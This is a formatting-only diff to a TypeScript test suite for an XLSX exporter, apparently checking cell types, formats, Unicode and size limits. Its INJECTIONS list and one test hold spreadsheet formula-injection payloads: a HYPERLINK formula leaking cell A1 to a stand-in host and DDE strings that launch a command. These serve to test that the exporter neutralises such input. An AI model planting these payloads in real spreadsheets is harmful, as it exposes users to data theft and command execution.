@@ -6,7 +6,14 @@ import { TEXTS, unicodeSheet } from "../../../test/office-exports/fixtures.js";
 import type { Sheet } from "../model/source.js";
 import { renderSheetToXlsx } from "./render-sheet-to-xlsx.js";
 
-const INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"];
+const INJECTIONS = [
+  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+  "+cmd|' /C calc'!A0",
+  "-2+3",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "\t=1+1",
+  "\r=1+1",
+];
 
 function sheet(): Sheet {
   return {
@@ -54,9 +61,22 @@ describe("renderSheetToXlsx", () => {
   it("types cells and applies number formats (column format overrides the type)", async () => {
     const pkg = openPackage((await renderSheetToXlsx(sheet())).bytes);
     const styles = parseXml(pkg.text("xl/styles.xml"));
-    const numFmtOfStyle = (s: string | null) => Array.from(styles.getElementsByTagName("cellXfs")[0]!.getElementsByTagName("xf"))[Number(s ?? 0)]!.getAttribute("numFmtId");
-    const customFmt = new Map(Array.from(styles.getElementsByTagName("numFmt")).map((n) => [n.getAttribute("numFmtId"), n.getAttribute("formatCode")]));
-    const cells = new Map(Array.from(parseXml(pkg.text("xl/worksheets/sheet1.xml")).getElementsByTagName("c")).map((c) => [c.getAttribute("r")!, c]));
+    const numFmtOfStyle = (s: string | null) =>
+      Array.from(styles.getElementsByTagName("cellXfs")[0]!.getElementsByTagName("xf"))[Number(s ?? 0)]!.getAttribute(
+        "numFmtId",
+      );
+    const customFmt = new Map(
+      Array.from(styles.getElementsByTagName("numFmt")).map((n) => [
+        n.getAttribute("numFmtId"),
+        n.getAttribute("formatCode"),
+      ]),
+    );
+    const cells = new Map(
+      Array.from(parseXml(pkg.text("xl/worksheets/sheet1.xml")).getElementsByTagName("c")).map((c) => [
+        c.getAttribute("r")!,
+        c,
+      ]),
+    );
     const fmt = (ref: string) => {
       const id = numFmtOfStyle(cells.get(ref)!.getAttribute("s"));
       return customFmt.get(id) ?? id;
@@ -88,7 +108,9 @@ describe("renderSheetToXlsx", () => {
     expect(pkg.text("xl/workbook.xml")).toContain("_xlnm._FilterDatabase");
     const header = Array.from(ws.getElementsByTagName("row")[0]!.getElementsByTagName("c"));
     expect(header.every((c) => c.getAttribute("s") === "1")).toBe(true);
-    const headerXf = Array.from(parseXml(pkg.text("xl/styles.xml")).getElementsByTagName("cellXfs")[0]!.getElementsByTagName("xf"))[1]!;
+    const headerXf = Array.from(
+      parseXml(pkg.text("xl/styles.xml")).getElementsByTagName("cellXfs")[0]!.getElementsByTagName("xf"),
+    )[1]!;
     expect(headerXf.getAttribute("fontId")).toBe("1");
     const cols = Array.from(ws.getElementsByTagName("col")).map((c) => Number(c.getAttribute("width")));
     expect(cols).toHaveLength(8);
@@ -98,7 +120,9 @@ describe("renderSheetToXlsx", () => {
 
   it("makes formulas only from {formula} cells, leading = stripped", async () => {
     const pkg = openPackage((await renderSheetToXlsx(sheet())).bytes);
-    const formulas = Array.from(parseXml(pkg.text("xl/worksheets/sheet1.xml")).getElementsByTagName("f")).map((f) => f.textContent);
+    const formulas = Array.from(parseXml(pkg.text("xl/worksheets/sheet1.xml")).getElementsByTagName("f")).map(
+      (f) => f.textContent,
+    );
     expect(formulas).toEqual(["B2*C2", "B3*C3", "SUM(A1:A3)"]);
   });
 
@@ -106,19 +130,25 @@ describe("renderSheetToXlsx", () => {
     const pkg = openPackage((await renderSheetToXlsx(sheet())).bytes);
     const ws = pkg.text("xl/worksheets/sheet2.xml");
     expect(ws).not.toContain("<f>");
-    const shared = Array.from(parseXml(pkg.text("xl/sharedStrings.xml")).getElementsByTagName("si")).map((si) => si.textContent);
+    const shared = Array.from(parseXml(pkg.text("xl/sharedStrings.xml")).getElementsByTagName("si")).map(
+      (si) => si.textContent,
+    );
     const cells = Array.from(parseXml(ws).getElementsByTagName("c"));
     expect(cells.every((c) => c.getAttribute("t") === "s")).toBe(true);
     const values = cells.map((c) => shared[Number(c.textContent)]);
     expect(values).toEqual(["=danger", ...INJECTIONS]);
     // Quote-prefixed, so editing the cell in Excel keeps it text too.
-    const xfs = Array.from(parseXml(pkg.text("xl/styles.xml")).getElementsByTagName("cellXfs")[0]!.getElementsByTagName("xf"));
+    const xfs = Array.from(
+      parseXml(pkg.text("xl/styles.xml")).getElementsByTagName("cellXfs")[0]!.getElementsByTagName("xf"),
+    );
     for (const c of cells) expect(xfs[Number(c.getAttribute("s"))]!.getAttribute("quotePrefix")).toBe("1");
   });
 
   it("keeps CJK, Arabic, Cyrillic and emoji text in the shared strings", async () => {
     const pkg = openPackage((await renderSheetToXlsx(unicodeSheet())).bytes);
-    const shared = Array.from(parseXml(pkg.text("xl/sharedStrings.xml")).getElementsByTagName("si")).map((si) => si.textContent);
+    const shared = Array.from(parseXml(pkg.text("xl/sharedStrings.xml")).getElementsByTagName("si")).map(
+      (si) => si.textContent,
+    );
     expect(shared).toContain(TEXTS.cjk);
     expect(shared).toContain(TEXTS.arabic);
     expect(shared).toContain(`${TEXTS.cyrillic} ${TEXTS.emoji}`);
@@ -132,7 +162,17 @@ describe("renderSheetToXlsx", () => {
   });
 
   it("stores a DDE-looking {formula} as text with a warning", async () => {
-    const s: Sheet = { kind: "sheet", title: "t", sheets: [{ name: "S", columns: [{ header: "a" }], rows: [[{ formula: "cmd|' /C calc'!A0" }], [{ formula: 'CONCAT("a|b")' }]] }] };
+    const s: Sheet = {
+      kind: "sheet",
+      title: "t",
+      sheets: [
+        {
+          name: "S",
+          columns: [{ header: "a" }],
+          rows: [[{ formula: "cmd|' /C calc'!A0" }], [{ formula: 'CONCAT("a|b")' }]],
+        },
+      ],
+    };
     const { bytes, warnings } = await renderSheetToXlsx(s);
     const ws = openPackage(bytes).text("xl/worksheets/sheet1.xml");
     expect(ws.match(/<f>/g)).toHaveLength(1);
@@ -142,8 +182,30 @@ describe("renderSheetToXlsx", () => {
   });
 
   it("writes a 100,000-cell sheet (the per-sheet limit) as a valid package", async () => {
-    const rows = Array.from({ length: 12_500 }, (_, i) => [`r${i}`, i, i / 7, "2026-01-02", i % 2 === 0, `=text${i}`, null, { formula: `B${i + 2}*2` }]);
-    const big: Sheet = { kind: "sheet", title: "big", sheets: [{ name: "Big", columns: ["a", "b", "c", "d", "e", "f", "g", "h"].map((header, i) => ({ header, type: i === 3 ? ("date" as const) : undefined })), rows }] };
+    const rows = Array.from({ length: 12_500 }, (_, i) => [
+      `r${i}`,
+      i,
+      i / 7,
+      "2026-01-02",
+      i % 2 === 0,
+      `=text${i}`,
+      null,
+      { formula: `B${i + 2}*2` },
+    ]);
+    const big: Sheet = {
+      kind: "sheet",
+      title: "big",
+      sheets: [
+        {
+          name: "Big",
+          columns: ["a", "b", "c", "d", "e", "f", "g", "h"].map((header, i) => ({
+            header,
+            type: i === 3 ? ("date" as const) : undefined,
+          })),
+          rows,
+        },
+      ],
+    };
     const { bytes } = await renderSheetToXlsx(big);
     expect(validateOoxml(bytes)).toEqual([]);
     const ws = openPackage(bytes).text("xl/worksheets/sheet1.xml");
@@ -155,7 +217,14 @@ describe("renderSheetToXlsx", () => {
   });
 
   it("handles an empty sheet and rows wider than the columns", async () => {
-    const s: Sheet = { kind: "sheet", title: "t", sheets: [{ name: "E", columns: [{ header: "a" }], rows: [] }, { name: "W", columns: [{ header: "a" }], rows: [[1, 2, 3]] }] };
+    const s: Sheet = {
+      kind: "sheet",
+      title: "t",
+      sheets: [
+        { name: "E", columns: [{ header: "a" }], rows: [] },
+        { name: "W", columns: [{ header: "a" }], rows: [[1, 2, 3]] },
+      ],
+    };
     const { bytes } = await renderSheetToXlsx(s);
     expect(validateOoxml(bytes)).toEqual([]);
     const pkg = openPackage(bytes);
@@ -169,7 +238,18 @@ describe("formulas in the file", () => {
     const s: Sheet = {
       kind: "sheet",
       title: "t",
-      sheets: [{ name: "S", columns: [{ header: "a" }], rows: [[{ formula: 'IFS(1>0,"yes")' }], [{ formula: "XOR(TRUE,FALSE)" }], [{ formula: "1/0" }], [{ formula: 'UNIQUE(A2:A3)&"ifs("' }]] }],
+      sheets: [
+        {
+          name: "S",
+          columns: [{ header: "a" }],
+          rows: [
+            [{ formula: 'IFS(1>0,"yes")' }],
+            [{ formula: "XOR(TRUE,FALSE)" }],
+            [{ formula: "1/0" }],
+            [{ formula: 'UNIQUE(A2:A3)&"ifs("' }],
+          ],
+        },
+      ],
     };
     const ws = openPackage((await renderSheetToXlsx(s)).bytes).text("xl/worksheets/sheet1.xml");
     expect(ws).toContain('<c r="A2" t="str"><f>_xlfn.IFS(1&gt;0,"yes")</f><v>yes</v></c>');
